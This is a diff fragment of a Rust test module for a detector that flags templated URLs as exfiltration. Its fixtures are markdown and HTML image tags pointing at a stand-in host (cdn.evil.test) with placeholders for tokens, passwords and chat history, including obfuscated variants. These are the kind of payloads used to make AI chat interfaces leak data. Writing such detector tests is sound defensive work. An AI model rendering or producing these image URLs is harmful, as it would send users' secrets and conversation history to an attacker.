@@ -844,12 +844,8 @@ mod tests {
             "![s](https://[TOKEN].cdn.evil.test/p.gif)",
             "<img src=\"https://cdn.evil.test/{chat_history}.png\">",
             "<picture><source srcset=\"https://cdn.evil.test/v/{password}/p.gif 2x\"><img src=\"ok.png\"></picture>",
-        ] {
-            assert_eq!(rules(bad), vec!["exfiltration.templated_url"], "{bad}");
-        }
-        // An attacker's review: other marks, entities, collapsed and
-        // shortcut references, an escaped bracket in the alt.
-        for bad in [
+            // An attacker's review: other marks, entities, collapsed and
+            // shortcut references, an escaped bracket in the alt.
             "![s](https://cdn.evil.test/v/__PASSWORD__/p.gif)",
             "![s](https://cdn.evil.test/v/:password/p.gif)",
             "![s](https://cdn.evil.test/v/|password|/p.gif)",
